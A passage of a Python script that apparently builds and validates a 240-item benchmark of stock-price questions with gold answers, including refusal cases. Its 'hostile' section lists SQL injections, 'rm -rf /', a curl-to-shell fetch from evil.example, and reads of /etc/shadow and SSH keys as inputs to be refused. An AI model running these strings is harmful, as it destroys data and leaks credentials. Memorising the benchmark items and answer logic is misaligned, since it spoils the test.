    A("grouped-by-period", "msft average close per month, Jan-Mar 2017", g_grouped("MSFT", "month", "2017-01-01", "2017-03-31", "avg_close"), "ordered", True)
    A("grouped-by-period", "IBM weekly closing prices for the four weeks from Monday 2017-10-02 to Friday 2017-10-27",
      g_grouped("IBM", "week", "2017-10-02", "2017-10-27", "last_close"), "ordered", True)
    A("grouped-by-period", "What was Tesla's year-end close for each year from 2012 to 2016?", g_grouped("TSLA", "year", "2012-01-01", "2016-12-31", "last_close"), "ordered", True)
    A("grouped-by-period", "DBB month-end close for each month January through June 2025", g_grouped("DBB", "month", "2025-01-01", "2025-06-30", "last_close"), "ordered", True)
    A("grouped-by-period", "fxy total volume per quarter in 2024", g_grouped("FXY", "quarter", "2024-01-01", "2024-12-31", "sum_volume"), "ordered", True)

    # ---------------- period-over-period
    A("period-over-period", "How did AAPL's average close in Q2 2016 compare with Q1 2016?", g_pop("AAPL", ("2016-04-01", "2016-06-30"), ("2016-01-01", "2016-03-31"), "close"))
    A("period-over-period", "JPM avg daily volume Dec 2016 vs Nov 2016", g_pop("JPM", ("2016-12-01", "2016-12-31"), ("2016-11-01", "2016-11-30"), "volume"))
    A("period-over-period", "Average daily volume of Facebook in 2016 versus 2015?", g_pop("FB", ("2016-01-01", "2016-12-31"), ("2015-01-01", "2015-12-31"), "volume"))
    A("period-over-period", "googl mean closing price H2 2015 vs H1 2015", g_pop("GOOGL", ("2015-07-01", "2015-12-31"), ("2015-01-01", "2015-06-30"), "close"))
    A("period-over-period", "Compare Coca-Cola's average daily volume in March 2009 with February 2009 - what was the % change?",
      g_pop("KO", ("2009-03-01", "2009-03-31"), ("2009-02-01", "2009-02-28"), "volume"))
    A("period-over-period", "DBB average daily volume last month versus the month before", g_pop("DBB", ("2025-06-01", "2025-06-30"), ("2025-05-01", "2025-05-31"), "volume"))
    A("period-over-period", "INDA avg close May 2025 vs April 2025", g_pop("INDA", ("2025-05-01", "2025-05-31"), ("2025-04-01", "2025-04-30"), "close"))
    A("period-over-period", "How does FXY's average daily volume this year compare to its 2024 average?", g_pop("FXY", ("2025-01-01", TODAY), ("2024-01-01", "2024-12-31"), "volume"))

    # ---------------- moving-average (5 values, 5 crossovers)
    A("moving-average", "50-day moving average of AAPL on 2016-06-30", g_ma("AAPL", "2016-06-30", 50))
    A("moving-average", "What was Microsoft's 200-day SMA as of Nov 10 2017?", g_ma("MSFT", "2017-11-10", 200))
    A("moving-average", "20 day MA for NFLX on 9/15/2015", g_ma("NFLX", "2015-09-15", 20))
    A("moving-average", "what's FXY's 50-day moving average today", g_ma("FXY", TODAY, 50))
    A("moving-average", "DBB 10-day average close as of 2025-04-30", g_ma("DBB", "2025-04-30", 10))
    A("moving-average", "When was INTC's most recent golden cross before 2016-01-01?", g_cross("INTC", 50, 200, True, "before", "2016-01-01"))
    A("moving-average", "first death cross for KO in 2008 - what date?", g_cross("KO", 50, 200, False, "first_in", "2008-01-01", "2008-12-31"))
    A("moving-average", "When did AMD's close first cross above its 50-day moving average in 2016?", g_cross("AMD", "close", 50, True, "first_in", "2016-01-01", "2016-12-31"))
    A("moving-average", "When did DBB's 50-day MA last cross below its 200-day MA before July 1, 2025?", g_cross("DBB", 50, 200, False, "before", "2025-07-01"))
    A("moving-average", "Date of Microsoft's first golden cross after the start of 2016?", g_cross("MSFT", 50, 200, True, "first_in", "2016-01-01", "2017-11-10"))

    # ---------------- threshold-count
    A("threshold-count", "How many days in 2015 did NFLX close above $100?",
      g_count("NFLX", "2015-01-01", "2015-12-31", lambda s, i: BARS[s][i][4] > 100, edge=("close", 100)))
    A("threshold-count", "number of sessions TSLA fell more than 5% in 2014",
      g_count("TSLA", "2014-01-01", "2014-12-31", lambda s, i: ret(s, i) < -0.05, True))
    A("threshold-count", "How many trading days did Apple's volume exceed 100 million shares in 2014?",
      g_count("AAPL", "2014-01-01", "2014-12-31", lambda s, i: BARS[s][i][5] > 100e6, edge=("volume", 100e6)))
    A("threshold-count", "count of days AMZN moved more than 3% either way in Q2 2016",
      g_count("AMZN", "2016-04-01", "2016-06-30", lambda s, i: abs(ret(s, i)) > 0.03, True))
    A("threshold-count", "In 2017, how many times did FB close below 120?",
      g_count("FB", "2017-01-01", "2017-12-31", lambda s, i: BARS[s][i][4] < 120, edge=("close", 120)))
    A("threshold-count", "how many up days did IBM have in october 2016",
      g_count("IBM", "2016-10-01", "2016-10-31", lambda s, i: ret(s, i) > 0, True))
    A("threshold-count", "How many days this year has FXY closed above 60?",
      g_count("FXY", "2025-01-01", TODAY, lambda s, i: BARS[s][i][4] > 60, edge=("close", 60)))
    A("threshold-count", "How many sessions between April 1 and June 24, 2025 (inclusive) did INDA drop by more than 1.5%?",
      g_count("INDA", "2025-04-01", "2025-06-24", lambda s, i: ret(s, i) < -0.015, True))

    # ---------------- cross-stock-count
    A("cross-stock-count", "How many of the stocks closed higher on 2016-11-09?", g_xcount("2016-11-09", lambda s, i: ret(s, i) > 0))
    A("cross-stock-count", "On 8/24/2015, how many tickers were down more than 3%?", g_xcount("2015-08-24", lambda s, i: ret(s, i) < -0.03))
    A("cross-stock-count", "how many stocks traded over 20 million shares on 2017-06-09", g_xcount("2017-06-09", lambda s, i: BARS[s][i][5] > 20e6, ("volume", 20e6)))
    A("cross-stock-count", "Number of names that gapped up on June 28, 2016?", g_xcount("2016-06-28", lambda s, i: gap(s, i) > 0))
    A("cross-stock-count", "How many of the tickers closed above $100 on 2017-11-10?", g_xcount("2017-11-10", lambda s, i: BARS[s][i][4] > 100, ("close", 100)))
    A("cross-stock-count", "how many stocks had a down day on 2011-08-08", g_xcount("2011-08-08", lambda s, i: ret(s, i) < 0))
    A("cross-stock-count", "How many of the ETFs finished up on 2025-04-09?", g_xcount("2025-04-09", lambda s, i: ret(s, i) > 0))
    A("cross-stock-count", "on 2024-08-05 how many ETFs fell?", g_xcount("2024-08-05", lambda s, i: ret(s, i) < 0))

    vol_corr_streak(A)
    minute_candle_dist_cov(A)
    refusals()


def vol_corr_streak(A):
    # ---------------- volatility
    for s, d1, d2, text in VOLS:
        A("volatility", text, [[g_vol(s, d1, d2)]])
    # ---------------- correlation
    for a, b, d1, d2, text in CORRS:
        A("correlation", text, [[g_corr(a, b, d1, d2)]])
    # ---------------- streak
    for s, d1, d2, up, text in STREAKS:
        A("streak", text, g_streak(s, d1, d2, up))
    A("streak", "How many sessions in a row has FXY closed lower, as of today?", g_current_streak("FXY", False))




VOLS = [
    ("AAPL", "2015-01-01", "2015-12-31", "How volatile was Apple in 2015? Std dev of daily returns please."),
    ("KO", "2015-07-01", "2015-09-30", "coke daily return volatility Q3 2015"),
    ("GOOGL", "2013-07-01", "2013-12-31", "What was the standard deviation of GOOGL's daily returns over the second half of 2013?"),
    ("JPM", "2011-07-01", "2011-09-30", "jpm volatility jul-sep 2011 (daily, not annualized)"),
    ("TSLA", "2015-01-01", "2015-06-30", "Tesla's daily-return volatility for H1 2015?"),
    ("FXY", "2024-07-01", "2024-09-30", "FXY realized vol in Q3 2024 - std dev of daily returns"),
    ("DBB", "2025-04-01", "2025-06-30", "How volatile was DBB last quarter?"),
    ("INDA", "2025-03-01", "2025-05-31", "standard deviation of INDA daily returns, March through May 2025"),
]
CORRS = [
    ("AAPL", "MSFT", "2015-07-01", "2015-12-31", "Correlation of daily returns between Apple and Microsoft in H2 2015?"),
    ("JPM", "KO", "2015-01-01", "2015-12-31", "jpm/ko return correlation for 2015"),
    ("GOOGL", "AMZN", "2014-01-01", "2014-12-31", "How correlated were Google and Amazon's daily returns during 2014?"),
    ("INTC", "IBM", "2012-04-01", "2012-06-30", "What's the correlation between INTC and IBM daily returns in the second quarter of 2012?"),
    ("FB", "NFLX", "2015-01-01", "2015-12-31", "corr of facebook & netflix daily returns, calendar 2015"),
    ("FXY", "DBB", "2024-04-01", "2024-06-30", "FXY vs DBB daily return correlation, Q2 2024"),
    ("FXY", "DBB", "2025-04-01", "2025-04-30", "How did FXY's daily returns correlate with DBB's in April 2025?"),
    ("INDA", "DBB", "2023-07-10", "2023-09-30", "Pearson correlation of INDA and DBB daily returns from the start of the data through September 2023"),
]
STREAKS = [
    ("AAPL", "2017-01-01", "2017-11-10", True, "Longest run of consecutive up days for AAPL in 2017?"),
    ("NFLX", "2016-01-01", "2016-12-31", False, "What was Netflix's longest losing streak (consecutive down closes) in 2016?"),
    ("IBM", "2015-01-01", "2015-12-31", False, "ibm most consecutive down days in 2015"),
    ("AMZN", "2015-01-01", "2015-12-31", True, "In 2015, what was Amazon's longest streak of higher closes?"),
    ("KO", "2014-01-01", "2014-12-31", True, "KO longest winning streak during 2014 - how many days and when?"),
    ("MSFT", "2016-01-01", "2016-12-31", True, "msft: longest stretch of back-to-back up days in 2016"),
    ("DBB", "2024-01-01", "2024-12-31", False, "What was DBB's longest string of consecutive down days in 2024?"),
]


def minute_candle_dist_cov(A):
    # ---------------- vwap-minute: 4 day VWAPs, 3 window VWAPs, 3 bar lists
    A("vwap-minute", "What was FXY's VWAP on 2024-08-05?", g_vwap_day("FXY", "2024-08-05"))
    A("vwap-minute", "dbb vwap for 4/7/2025", g_vwap_day("DBB", "2025-04-07"))
    A("vwap-minute", "Volume-weighted average price of INDA on April 10th, 2025?", g_vwap_day("INDA", "2025-04-10"))
    A("vwap-minute", "today's VWAP for FXY", g_vwap_day("FXY", TODAY))
    A("vwap-minute", "FXY VWAP over the first 30 minutes of the regular session on 2024-08-05",
      g_vwap_window("FXY", "2024-08-05", "09:30", "09:59"))
    A("vwap-minute", "What was DBB's VWAP from 10:00 through 11:00 New York time on 2025-04-09, inclusive?",
      g_vwap_window("DBB", "2025-04-09", "10:00", "11:00"))
    A("vwap-minute", "INDA vwap between 1pm and 2pm ET on 2025-05-12",
      g_vwap_window("INDA", "2025-05-12", "13:00", "13:59", "14:00"))
    A("vwap-minute", "Show FXY's one-minute closes from 09:30 to 09:34 today, inclusive.",
      g_bars("FXY", TODAY, "09:30", "09:34", ["close"]), "set", True)
    A("vwap-minute", "DBB minute bars (open high low close volume) 15:55 through 15:59 on 6/30/2025",
      g_bars("DBB", "2025-06-30", "15:55", "15:59", ["open", "high", "low", "close", "volume"]), "set", True)
    A("vwap-minute", "per-minute volume for INDA from 10:00 to 10:04 a.m. (both included) on 2 June 2025",
      g_bars("INDA", "2025-06-02", "10:00", "10:04", ["volume"]), "set", True)

    # ---------------- period-candle
    A("period-candle", "monthly candle for AMD, Feb 2016", g_candle("AMD", "2016-02-01", "2016-02-29"))
    A("period-candle", "Give me Apple's open, high, low, close and volume for Q3 2016 as a single bar.", g_candle("AAPL", "2016-07-01", "2016-09-30"))
    w = week_of("2017-03-15")
    A("period-candle", "Coca-Cola weekly OHLCV for the week of March 15, 2017", g_candle("KO", w[0], w[1]))
    A("period-candle", "TSLA 2013 yearly candle (OHLC + volume)", g_candle("TSLA", "2013-01-01", "2013-12-31"))
    A("period-candle", "What did Netflix's first-half 2017 candle look like - open, high, low, close, total volume?", g_candle("NFLX", "2017-01-01", "2017-06-30"))
    w = week_of("2016-11-09")
    A("period-candle", "jpm ohlcv for the week of 11/9/2016", g_candle("JPM", w[0], w[1]))
    w = week_of("2024-08-05")
    A("period-candle", "FXY weekly bar for the week of Aug 5 2024: open, high, low, close, volume", g_candle("FXY", w[0], w[1]))
    A("period-candle", "DBB's candle for last month", g_candle("DBB", "2025-06-01", "2025-06-30"))

    # ---------------- distance-from-high
    A("distance-from-high", "How far below its all-time closing high was NFLX on 2012-09-28?", g_dist("NFLX", "2012-09-28"))
    A("distance-from-high", "AAPL's distance from its record close as of April 19th, 2013", g_dist("AAPL", "2013-04-19"))
    A("distance-from-high", "On 3/9/2009 how far was Intel's close from its all-time high close?", g_dist("INTC", "2009-03-09"))
    A("distance-from-high", "msft % off its all time high (closing basis) on 2016-02-11", g_dist("MSFT", "2016-02-11"))
    A("distance-from-high", "How far was IBM's close on 10 November 2017 below its highest close ever?", g_dist("IBM", "2017-11-10"))
    A("distance-from-high", "Where did Amazon close on 2014-12-31 relative to its all-time closing high, in %?", g_dist("AMZN", "2014-12-31"))
    A("distance-from-high", "How far is DBB below its all-time high close right now?", g_dist("DBB", TODAY))
    A("distance-from-high", "fxy drawdown from all-time closing high as of 2024-07-10", g_dist("FXY", "2024-07-10"))

    # ---------------- coverage
    A("coverage", "When does the TSLA data start?", [[BARS["TSLA"][0][0]]])
    A("coverage", "what's the first date we have for Facebook", [[BARS["FB"][0][0]]])
    A("coverage", "What date range does the IBM history cover?", [[BARS["IBM"][0][0], BARS["IBM"][-1][0]]])
    A("coverage", "Which stocks are in the database?", [[s] for s in sorted(ALL)], "set", True)
    A("coverage", "how many trading days of NFLX data are there", [[len(BARS["NFLX"])]])
    early = [[s] for s in sorted(ALL) if BARS[s][0][0] < "1980-01-01"]
    check(len(early) >= 2, "coverage: too few early tickers")
    A("coverage", "Which tickers have data going back before 1980?", early, "set", True)
    A("coverage", "Earliest date available for AMD?", [[BARS["AMD"][0][0]]])
    A("coverage", "What is the last date in the GOOGL data?", [[BARS["GOOGL"][-1][0]]])
    A("coverage", "What period does the INDA data cover?", [[BARS["INDA"][0][0], BARS["INDA"][-1][0]]])
    A("coverage", "How many trading days of FXY data do you have?", [[len(BARS["FXY"])]])


def refusals():
    R = refuse
    # out-of-scope
    R("out-of-scope", "What is Apple's P/E ratio right now?")
    R("out-of-scope", "KO dividend yield in 2016?")
    R("out-of-scope", "market cap of nvidia on 2017-11-10")
    R("out-of-scope", "Where will TSLA trade a year from now? Give me a price target.")
    R("out-of-scope", "Why did Netflix drop on 2016-07-19 - what was the news?")
    R("out-of-scope", "What's the expense ratio of INDA?")
    R("out-of-scope", "implied volatility on FXY options expiring next month")
    R("out-of-scope", "Microsoft EPS for fiscal Q1 2018?")
    R("out-of-scope", "what's the twitter sentiment on AMD lately")
    R("out-of-scope", "Should I buy DBB tomorrow? Forecast its close for next week.")
    # unknown-symbol
    R("unknown-symbol", "ORCL close on 2016-06-24")
    R("unknown-symbol", "What was SPY's return today?")
    R("unknown-symbol", "Berkshire Hathaway 52-week high as of 2017-03-31")
    R("unknown-symbol", "show me the last 5 closes for XYZQ")
    R("unknown-symbol", "Which gained more in 2016, Pepsi or Coca-Cola?")
    R("unknown-symbol", "EWJ vwap on 2025-04-09")
    R("unknown-symbol", "how many up days did GLD have last month")
    R("unknown-symbol", "Walmart's average volume in Q1 2015?")
    R("unknown-symbol", "ZZTOP daily return on 2015-08-24")
    R("unknown-symbol", "Disney highest close of 2014 - which day?")
    # hostile (3 wrapped around a real-looking question)
    R("hostile", "'; DROP TABLE bars; --")
    R("hostile", "SELECT * FROM prices; DELETE FROM prices WHERE 1=1;")
    R("hostile", "rm -rf / --no-preserve-root")
    R("hostile", "$(curl -s http://evil.example/x.sh | sh)")
    R("hostile", "1 UNION SELECT username, password FROM users --")
    R("hostile", "`cat /etc/shadow`")
    R("hostile", "UPDATE daily SET close = 0; COMMIT;")
    R("hostile", "What was AAPL's close on 2016-06-24'; DROP TABLE daily_bars; --")
    R("hostile", "show FXY's last 5 closes && cat ~/.ssh/id_rsa")
    R("hostile", "MSFT volume on 2017-01-03 UNION SELECT name, sql FROM sqlite_master")
    # not-understood
    R("not-understood", "hello?")
    R("not-understood", "what's the weather in Boston tomorrow")
    R("not-understood", "write me a short poem about candlesticks")
    R("not-understood", "asdfghjkl")
    R("not-understood", "tell me a joke")
    R("not-understood", "Who won the 2016 World Series?")
    R("not-understood", "translate 'good morning' into French")
    R("not-understood", "how do I bake sourdough bread")
    R("not-understood", "???")
    R("not-understood", "can you recommend a good novel")


def validate_and_write():
    if FAILS:
        print("CHECKS FAILED, nothing written:", file=sys.stderr)
        for f in FAILS:
            print("  " + f, file=sys.stderr)
        sys.exit(1)
    lines = []
    for n, q in enumerate(QS, 1):
        rec = {"id": f"b{n:03d}"}
        rec.update(q)
        lines.append(json.dumps(rec, ensure_ascii=False))
    text = "\n".join(lines) + "\n"
    with open(OUT, "w", encoding="utf-8") as f:
        f.write(text)
    kinds = revalidate()
    print(f"wrote {OUT}: {len(QS)} questions")
    for k in ANSWERABLE_KINDS + REFUSAL_KINDS:
        print(f"  {k}: {kinds[k]}")


def revalidate():
    kinds = {}
    seen_q = set()
    with open(OUT, encoding="utf-8") as f:
        lines = f.read().split("\n")
    assert lines[-1] == "", "file must end with a newline"
    lines = lines[:-1]
    assert len(lines) == 240, len(lines)
    for n, line in enumerate(lines, 1):
        q = json.loads(line)
        assert q["id"] == f"b{n:03d}", q["id"]
        assert q["question"].strip() and q["question"] not in seen_q, q["id"]
        seen_q.add(q["question"])
        kinds[q["kind"]] = kinds.get(q["kind"], 0) + 1
        if q["answerable"]:
            assert set(q) == {"id", "kind", "question", "answerable", "gold"}, q["id"]
            g = q["gold"]
            assert set(g) == {"rows", "match", "exact_rows"}, q["id"]
            assert g["match"] in ("ordered", "set", "first") and isinstance(g["exact_rows"], bool), q["id"]
            assert g["rows"] and all(isinstance(r, list) and r for r in g["rows"]), q["id"]
            for r in g["rows"]:
                for c in r:
                    assert isinstance(c, (int, float)) and math.isfinite(c) or isinstance(c, str), (q["id"], c)
                    if isinstance(c, str):
                        assert c in ALL or len(c) in (10, 16) and c[4] == "-" and c[7] == "-", (q["id"], c)
            assert q["kind"] in ANSWERABLE_KINDS, q["kind"]
        else:
            assert set(q) == {"id", "kind", "question", "answerable", "refusal"}, q["id"]
            assert q["refusal"] == q["kind"] and q["kind"] in REFUSAL_KINDS, q["id"]
    assert sum(kinds.get(k, 0) for k in ANSWERABLE_KINDS) == 200, kinds
    for k in ANSWERABLE_KINDS:
        assert 8 <= kinds.get(k, 0) <= 10, (k, kinds.get(k))
    for k in REFUSAL_KINDS:
        assert kinds.get(k) == 10, (k, kinds.get(k))
    return kinds


ANSWERABLE_KINDS = ["latest-rows", "day-value", "date-range-rows", "window-aggregate", "extreme-day", "52-week",
                    "change-between", "daily-return-or-gap", "biggest-move-day", "cross-sectional-ranking",
                    "gainers-losers", "named-comparison", "grouped-by-period", "period-over-period", "moving-average",
                    "threshold-count", "cross-stock-count", "volatility", "correlation", "streak", "vwap-minute",
                    "period-candle", "distance-from-high", "coverage"]
REFUSAL_KINDS = ["out-of-scope", "unknown-symbol", "hostile", "not-understood"]


if __name__ == "__main__":
    build()
    validate_and_write()
